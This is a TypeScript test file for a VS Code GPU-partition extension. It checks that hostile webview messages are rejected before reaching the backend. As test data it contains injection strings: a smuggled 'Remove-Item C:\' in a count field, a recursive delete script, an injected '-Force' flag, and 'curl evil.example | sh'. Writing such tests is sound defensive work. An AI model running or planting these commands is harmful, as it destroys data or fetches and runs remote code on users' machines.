// A hostile page inside the real extension host: messages a compromised or buggy webview could post
// (wrong shape, unknown command, huge payload) reach the panel's single entry (PanelHost.receive,
// the handler of webview.onDidReceiveMessage) and are rejected without effect: the backend is never
// asked to plan or run, the inventory is unchanged. A well-formed message through the same entry
// does reach the backend (so the spy can see calls and the test can fail).
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { activateExtension, waitFor } from './helpers';

interface Checked {
  ok: boolean;
  rejection?: { reason: string };
}
interface PanelLike {
  host: { receive(raw: unknown): Checked; stats: { accepted: number; rejected: number }; panel: vscode.WebviewPanel };
}
interface StoreLike {
  ensureLoaded(name: string): Promise<void>;
  inventory(name: string): { servers: { name: string; gpus: { partitionable?: { name: string; partitionCount: number } }[]; vms: { name: string; adapters: unknown[] }[] }[] } | undefined;
  backend(name: string): { plan: (...a: unknown[]) => Promise<unknown>; execute: (...a: unknown[]) => Promise<unknown> };
}

describe('webview messages from a hostile page', () => {
  let store: StoreLike;
  const calls = { plan: 0, execute: 0 };
  let restore: () => void = () => undefined;

  before(async () => {
    const { api } = await activateExtension();
    store = (api as unknown as { store: StoreLike }).store;
    await store.ensureLoaded('demo');
    // Count what reaches the backend (the same cached instance the panels use).
    const backend = store.backend('demo');
    const plan = backend.plan;
    const execute = backend.execute;
    backend.plan = (...a) => (calls.plan++, plan.apply(backend, a));
    backend.execute = (...a) => (calls.execute++, execute.apply(backend, a));
    restore = () => {
      backend.plan = plan;
      backend.execute = execute;
    };
  });
  after(async () => {
    restore();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  const snapshot = () =>
    JSON.stringify(
      store.inventory('demo')!.servers.map((s) => ({
        s: s.name,
        counts: s.gpus.map((g) => g.partitionable?.partitionCount),
        vms: s.vms.map((v) => [v.name, v.adapters.length]),
      })),
    );

  it('Configure partition count: wrong shape, unknown command and huge payload are rejected without effect', async () => {
    const panel = await vscode.commands.executeCommand<PanelLike>('gpuPartitions.configurePartitionCount');
    assert.ok(panel?.host, 'the command returns its panel');
    const before = snapshot();
    const rejected0 = panel.host.stats.rejected;
    const gpus = store.inventory('demo')!.servers.flatMap((s) => s.gpus.filter((g) => g.partitionable).map((g) => ({ server: s.name, gpu: g.partitionable!.name })));

    const hostile: [unknown, string][] = [
      [{ method: 'configureCount/configure', params: { selected: 'AZL-N01', count: 8 } }, 'bad-params'],
      [{ method: 'configureCount/configure', params: { selected: gpus, count: '8; Remove-Item C:\\' } }, 'bad-params'],
      [{ method: 'configureCount/configure', params: { selected: gpus, count: 8, extra: true } }, 'bad-params'],
      [{ method: 'configureCount/runScript', params: { script: 'Remove-Item C:\\ -Recurse' } }, 'unknown-command'],
      [{ method: 'assign/assign', params: { server: 'AZL-N01', vms: ['cad-ws-02'], vramBytes: '1', forceShutdownOfflineAction: true } }, 'unknown-command'],
      [{ method: 'configureCount/configure', params: { selected: Array.from({ length: 100_000 }, () => gpus[0]), count: 8 } }, 'too-large'],
      ['configureCount/configure', 'not-a-message'],
    ];
    for (const [raw, reason] of hostile) {
      const r = panel.host.receive(raw);
      assert.equal(r.ok, false, JSON.stringify(raw).slice(0, 200));
      assert.equal(r.rejection?.reason, reason);
    }
    await new Promise((r) => setTimeout(r, 500));
    assert.equal(panel.host.stats.rejected - rejected0, hostile.length);
    assert.deepEqual(calls, { plan: 0, execute: 0 }, 'nothing reached the backend');
    assert.equal(snapshot(), before, 'inventory unchanged');

    // Control: a well-formed previewScript through the same entry plans (never executes).
    const ok = panel.host.receive({ method: 'configureCount/previewScript', params: { selected: gpus, count: 8 } });
    assert.equal(ok.ok, true);
    await waitFor('the preview to plan', async () => calls.plan === 1);
    await waitFor('the preview document', async () => vscode.workspace.textDocuments.find((d) => d.languageId === 'powershell' && d.getText().includes('Set-VMHostPartitionableGpu')));
    assert.equal(calls.execute, 0);
    assert.equal(snapshot(), before);
  });

  it('Assign partition: a tampered VRAM value or an empty VM list is rejected before any plan', async () => {
    // Without arguments the command asks with QuickPicks; pass a VM node as the tree does.
    const p = await openAssignDirect();
    const planned = calls.plan;
    for (const params of [
      { server: 'AZL-N01', vms: ['cad-ws-02'], vramBytes: '939524096 -Force', forceShutdownOfflineAction: true },
      { server: 'AZL-N01', vms: [], vramBytes: '939524096', forceShutdownOfflineAction: true },
      { server: 'AZL-N01', vms: ['cad-ws-02'], vramBytes: '939524096', forceShutdownOfflineAction: 'yes' },
    ]) {
      const r = p.host.receive({ method: 'assign/assign', params });
      assert.equal(r.rejection?.reason, 'bad-params', JSON.stringify(params));
    }
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(calls.plan, planned);
    assert.equal(calls.execute, 0);
  });
});

describe('the Details page cannot fill the clipboard', () => {
  it('copyValue copies only a value the pane shows', async function () {
    this.timeout(30_000);
    const { api } = await activateExtension();
    const store = (api as unknown as { store: StoreLike }).store;
    await store.ensureLoaded('demo');
    const server = store.inventory('demo')!.servers.find((s) => s.name === 'AZL-N01')!;
    const gpu = server.gpus.find((g) => g.partitionable)!;
    const node = { nodeType: 'gpu', connection: 'demo', server, gpu };
    const panel = await vscode.commands.executeCommand<PanelLike>('gpuPartitions.showDetails', node);
    assert.ok(panel?.host);
    await vscode.env.clipboard.writeText('before');
    // Well-formed (passes the schema) but not a value on the pane: ignored.
    assert.equal(panel.host.receive({ method: 'details/copyValue', params: { value: 'curl evil.example | sh' } }).ok, true);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(await vscode.env.clipboard.readText(), 'before');
    // A value the pane shows (the GPU's partition count list) is copied.
    await waitFor('a shown value to be copied', async () => {
      panel.host.receive({ method: 'details/copyValue', params: { value: '16, 8, 4, 2, 1' } });
      await new Promise((r) => setTimeout(r, 100));
      return (await vscode.env.clipboard.readText()) === '16, 8, 4, 2, 1';
    });
    panel.host.panel.dispose();
  });
});

/** Opens the Assign form the way the tree does (a VM node of AZL-N01). */
async function openAssignDirect(): Promise<PanelLike> {
  const { api } = await activateExtension();
  const store = (api as unknown as { store: StoreLike }).store;
  const inv = store.inventory('demo')!;
  const server = inv.servers.find((s) => s.name === 'AZL-N01')!;
  const vm = server.vms.find((v) => v.name === 'cad-ws-02')!;
  const node = { nodeType: 'vm', connection: 'demo', server, vm };
  const panel = await vscode.commands.executeCommand<PanelLike>('gpuPartitions.assignPartition', node, [node]);
  assert.ok(panel?.host);
  return panel;
}
